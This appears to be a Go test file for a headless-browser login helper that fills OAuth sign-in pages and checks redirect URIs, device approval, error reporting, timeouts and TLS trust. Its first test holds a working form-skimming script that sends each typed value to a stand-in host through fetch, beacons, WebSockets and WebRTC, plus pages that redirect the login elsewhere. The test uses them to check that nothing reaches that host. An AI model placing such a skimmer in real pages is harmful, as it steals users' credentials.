package headless

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/dpopspec/dpopspec/internal/login"
)

// elsewhere is a host of nobody: it counts who connects.
func elsewhere(t *testing.T) (address string, connections *atomic.Int32) {
	t.Helper()
	connections = &atomic.Int32{}
	s := httptest.NewUnstartedServer(http.NotFoundHandler())
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			connections.Add(1)
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	return s.URL, connections
}

func TestNothingReachesAHostThatIsNotNamed(t *testing.T) {
	needsChromium(t)
	// A thief does not wait to be asked: it sends what is typed, as it is typed.
	const thief = plainForm + `<script>
const send = (what) => {
  new Image().src = 'THERE/?' + what;
  fetch('THERE/', { method: 'POST', body: what, mode: 'no-cors', keepalive: true }).catch(() => {});
  navigator.sendBeacon('THERE/', what);
  try { new WebSocket('THERE/'.replace('http', 'ws')).onopen = (e) => e.target.send(what); } catch {}
  new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL('THERE/').host }] }).createDataChannel('x');
};
document.addEventListener('input', (e) => send(e.target.value));
document.querySelector('form').addEventListener('submit', (e) => send('submit'));
</script>`
	for name, row := range map[string]struct {
		page     string
		sticks   string // what the failure says; empty: the login succeeds
		password bool   // it was sent to the site
	}{
		"the form":          {strings.Replace(plainForm, "/login", "THERE/login", 1), "the login leads to THERE,", false},
		"the button":        {strings.Replace(plainForm, "<button>", "<button formaction=THERE/login>", 1), "the login leads to THERE,", false},
		"a form that turns": {plainForm + `<script>document.addEventListener('input', () => { document.forms[0].action = 'THERE/login' })</script>`, "the login leads to THERE,", false},
		"a redirect":        {`<script>location = 'THERE/'</script>`, "the login leads to THERE,", false},
		"a frame":           {`<iframe src=THERE/ width=500 height=500></iframe>`, "the page has nothing to fill in", false},
		"a script":          {`<script src=THERE/login.js></script><p>Loading</p>`, "the page has nothing to fill in", false},
		"a link":            {plainForm + `<link rel=stylesheet href=THERE/a.css><link rel=preconnect href=THERE><link rel=dns-prefetch href=THERE><link rel=prefetch href=THERE/b>`, "", true},
		"a thief":           {thief, "", true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			there, connections := elsewhere(t)
			s := newSite(t, strings.ReplaceAll(row.page, "THERE", there), nil)
			b := opened(t, login.Browser{})
			_, err := b.Authorize(t.Context(), s.request("abc"))
			var failure *login.Failure
			switch {
			case row.sticks == "" && err != nil:
				t.Errorf("got %v", err)
			case row.sticks != "":
				want := strings.ReplaceAll(row.sticks, "THERE", there)
				if !errors.As(err, &failure) || !strings.Contains(err.Error(), want) || failure.Key != "hosts" {
					t.Errorf("got %v, want %s", err, want)
				} else if !strings.Contains(failure.Error()+failure.Remedy, there) {
					t.Errorf("the host is not told: %+v", failure)
				}
			}
			if sent := s.count("POST /login") > 0; sent != row.password {
				t.Errorf("the password was sent: %v", sent)
			}
			if n := connections.Load(); n != 0 {
				t.Errorf("%d connections to a host that is not named", n)
			}
		})
	}
}

func TestTheAnswerIsNeverAskedFor(t *testing.T) {
	needsChromium(t)
	there, connections := elsewhere(t)
	for name, row := range map[string]struct {
		page, redirect, want string
	}{
		"a redirect of a script":    {`<script>location = 'BACK?code=1'</script>`, there + "/cb", there + "/cb?code=1"},
		"form_post":                 {`<body onload="document.forms[0].submit()"><form method=post action=BACK><input name=code value=1></form>`, there + "/cb", there + "/cb?code=1"},
		"a custom scheme by script": {`<script>location = 'BACK?code=1'</script>`, "com.example.app:/cb", "com.example.app:/cb?code=1"},
		"a custom scheme by link":   {`<a id=a href='BACK?code=1'>x</a><script>onload = () => document.getElementById('a').click()</script>`, "com.example.app:/cb", "com.example.app:/cb?code=1"},
		"after another path":        {`<script>location = 'BACK?code=1'; </script>`, there + "/cb", there + "/cb?code=1"},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSite(t, strings.ReplaceAll(row.page, "BACK", row.redirect), nil)
			request := s.request("abc")
			request.RedirectURI = row.redirect
			back, err := opened(t, login.Browser{}).Authorize(t.Context(), request)
			if err != nil || back != row.want {
				t.Errorf("got %q, %v", back, err)
			}
		})
	}
	if n := connections.Load(); n != 0 {
		t.Errorf("%d connections to the redirect URI", n)
	}
}

func TestACodeForAnotherPathIsNotTaken(t *testing.T) {
	needsChromium(t)
	there, connections := elsewhere(t)
	s := newSite(t, `<script>location = '`+there+`/cb/more?code=1'</script>`, nil)
	request := s.request("abc")
	request.RedirectURI = there + "/cb"
	_, err := opened(t, login.Browser{}).Authorize(t.Context(), request)
	if err == nil || !strings.Contains(err.Error(), "the login leads to "+there) || connections.Load() != 0 {
		t.Errorf("got %v", err)
	}
}

func TestWhatStandsInTheWayIsSaid(t *testing.T) {
	needsChromium(t)
	for name, row := range map[string]struct {
		page, after, what, key string
		browser                login.Browser
	}{
		"captcha": {page: plainForm + `<div class=g-recaptcha data-sitekey=1>x</div>`, what: "captcha", key: "browser"},
		"a one-time code": {page: plainForm, after: `<title>2FA</title><form action=/done>Enter the code <input name=otp autocomplete=one-time-code><button>Verify</button></form>`,
			what: "one-time code", key: "browser"},
		"a new password": {page: plainForm, after: `<form action=/done><input type=password name=new><input type=password name=again><button>Save</button></form>`,
			what: "new password", key: "browser"},
		"no account":  {page: plainForm, browser: login.Browser{Form: &login.Form{}}, what: "no account", key: "browser"},
		"a selector":  {page: plainForm, browser: login.Browser{Steps: []login.Step{{Fill: "#nobody", Value: "x"}}}, what: "no visible #nobody", key: "steps"},
		"no selector": {page: plainForm, browser: login.Browser{Steps: []login.Step{{Click: "###"}}}, what: "no CSS selector", key: "steps"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t, row.page, nil)
			s.after = row.after
			b := opened(t, row.browser)
			if row.browser.Form != nil {
				b.options.Settings.Form = nil
			}
			_, err := b.Authorize(t.Context(), s.request("abc"))
			var failure *login.Failure
			if !errors.As(err, &failure) || !strings.Contains(failure.What, row.what) || failure.Key != row.key || failure.Remedy == "" {
				t.Errorf("got %+v", *failure)
			}
			if strings.Contains(fmt.Sprintf("%+v", failure), testPassword) {
				t.Errorf("the password is told: %+v", failure)
			}
		})
	}
}

func TestStepsAreTakenInTheirOrder(t *testing.T) {
	needsChromium(t)
	s := newSite(t, delayedForm, nil)
	s.after = `<form action=/done><button id=yes>Gewiss doch</button></form>`
	b := opened(t, login.Browser{Steps: []login.Step{
		{Wait: "input[name=password]"}, {Fill: "input[name=username]", Value: testUser},
		{Fill: "input[name=password]", Value: testPassword}, {Click: "button"}, {Click: "#yes"},
	}})
	for range 2 { // who is logged in is not asked again
		if _, err := b.Authorize(t.Context(), s.request("abc")); err != nil {
			t.Fatal(err)
		}
	}
	if s.sessions != 1 {
		t.Errorf("%d logins", s.sessions)
	}
}

func TestADeviceIsApproved(t *testing.T) {
	needsChromium(t)
	s := newSite(t, "", map[string]string{
		"/device":        `<title>Device</title><form action=/confirm>Enter the code shown on your device <input name=user_code><button>Continue</button></form>`,
		"/confirm":       `<title>Confirm</title><form action=/approved method=post><button name=no>Cancel</button><button>Allow</button></form>`,
		"POST /approved": `<title>Done</title>You may close this window.`,
	})
	err := opened(t, login.Browser{}).Approve(t.Context(), login.Device{
		Address: s.URL + "/device", UserCode: "ABCD-EFGH", Hosts: login.HostsOf(s.URL),
	})
	if err != nil || s.count("POST /approved") != 1 || s.count("GET /confirm") != 1 {
		t.Errorf("got %v; %q", err, s.asked)
	}
}

func TestABrowserThatDiesIsSaidOnce(t *testing.T) {
	needsChromium(t)
	s := newSite(t, plainForm, nil)
	b := opened(t, login.Browser{})
	if _, err := b.Authorize(t.Context(), s.request("abc")); err != nil {
		t.Fatal(err)
	}
	b.chrome.group()
	var errs []string
	for range 2 {
		_, err := b.Authorize(t.Context(), s.request("abc"))
		var failure *login.Failure
		if !errors.As(err, &failure) || !strings.Contains(failure.What, "the browser ended") {
			t.Errorf("got %v", err)
		}
		errs = append(errs, fmt.Sprint(err))
	}
	if errs[0] != errs[1] {
		t.Errorf("said differently: %q", errs)
	}
}

func TestAHungServerIsNotWaitedForEver(t *testing.T) {
	needsChromium(t)
	hang := make(chan struct{})
	s := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { <-hang }))
	defer s.Close()
	defer close(hang)
	b := New(Options{Transport: &http.Transport{}})
	defer b.Close()
	_, err := b.Authorize(t.Context(), login.Request{Address: s.URL, RedirectURI: redirectURI, Hosts: login.HostsOf(s.URL), Patience: time.Second})
	var failure *login.Failure
	if !errors.As(err, &failure) || !strings.Contains(failure.What, "within 1s") {
		t.Errorf("got %v", err)
	}
}

// By the connections of the run, the browser reaches what it could not by itself: a
// name that is nobody's, and a certificate by an authority of the configuration.
func TestTheBrowserGoesTheWayOfTheConfiguration(t *testing.T) {
	needsChromium(t)
	plain := newSite(t, delayedForm, nil)
	s := httptest.NewTLSServer(plain.Config.Handler)
	defer s.Close()
	roots := x509.NewCertPool()
	roots.AddCert(s.Certificate())
	for name, row := range map[string]struct {
		roots *x509.CertPool
		fails bool
	}{"trusted": {roots, false}, "not trusted": {x509.NewCertPool(), true}} {
		b := New(Options{
			Settings: login.Browser{Form: &login.Form{Username: testUser, Password: testPassword}},
			Transport: &http.Transport{
				TLSClientConfig: &tls.Config{RootCAs: row.roots},
				DialContext: func(ctx context.Context, network, address string) (net.Conn, error) {
					if address != "login.example.com:443" {
						t.Errorf("dialled %s", address)
					}
					return (&net.Dialer{}).DialContext(ctx, network, s.Listener.Addr().String())
				},
			},
		})
		_, err := b.Authorize(t.Context(), login.Request{
			Address: "https://login.example.com/authorize", RedirectURI: redirectURI,
			Hosts: login.HostsOf("https://login.example.com"),
		})
		var unknown x509.UnknownAuthorityError
		if row.fails != errors.As(err, &unknown) || !row.fails && err != nil {
			t.Errorf("%s: got %v", name, err)
		}
		b.Close()
	}
}
